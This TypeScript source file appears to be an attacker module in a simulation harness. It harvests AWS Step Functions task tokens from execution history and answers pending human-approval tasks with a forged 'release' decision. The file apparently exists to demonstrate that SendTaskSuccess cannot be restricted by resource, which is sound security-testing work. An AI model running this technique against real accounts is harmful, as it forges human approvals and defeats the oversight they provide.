import type { Story } from '../story.ts';
import type { World } from '../world.ts';
import { type Hand, handOf, type Output } from './hand.ts';

export interface TokenThiefGiven {
  readonly world: Pick<World, 'account' | 'clock'>;
  readonly story: Story;
  /** Of somebody who may read executions and answer their tasks. */
  readonly accessKeyId: string;
  /** Between two looks, and for how long, in ms. */
  readonly everyMs: number;
  readonly forMs: number;
}

/** What it says in the place of the person who was asked. */
const forged = JSON.stringify({ choice: 'release', approvalId: 'forged', by: 'alice@example.com' });

/**
 * Reads the tokens of waiting tasks from the history of executions, and answers them as if a person had said: release.
 * SendTaskSuccess knows no resource, so no guard can keep this from an administrator.
 * https://docs.aws.amazon.com/service-authorization/latest/reference/list_awsstepfunctions.html
 */
export async function tokenThief({ world, story, accessKeyId, everyMs, forMs }: TokenThiefGiven): Promise<void> {
  const hand = handOf(world, { kind: 'key-holder', name: 'token-thief', accessKeyId });
  const executionArn = `${world.account.deployed.machine.arn.replace(':stateMachine:', ':execution:')}:any`;
  const until = world.clock.now() + forMs;
  let answered = 0;
  while (world.clock.now() < until) {
    answered += await answers(hand, tokensIn(await hand('GetExecutionHistoryCommand', { executionArn })));
    await world.clock.sleep(everyMs);
  }
  story.tell('attacker', `answers ${answered} question(s) that were put to a person`);
}

async function answers(hand: Hand, tokens: readonly string[]): Promise<number> {
  let taken = 0;
  for (const taskToken of tokens)
    if ((await hand('SendTaskSuccessCommand', { taskToken, output: forged })) !== undefined) taken += 1;
  return taken;
}

interface Event {
  readonly taskScheduledEventDetails?: { readonly parameters?: string };
}

const tokensIn = (output: Output): readonly string[] =>
  ((output?.['events'] ?? []) as readonly Event[]).flatMap(({ taskScheduledEventDetails }) => {
    const { Payload } = JSON.parse(taskScheduledEventDetails?.parameters ?? '{}') as {
      readonly Payload?: { readonly taskToken?: string };
    };
    return Payload?.taskToken ?? [];
  });
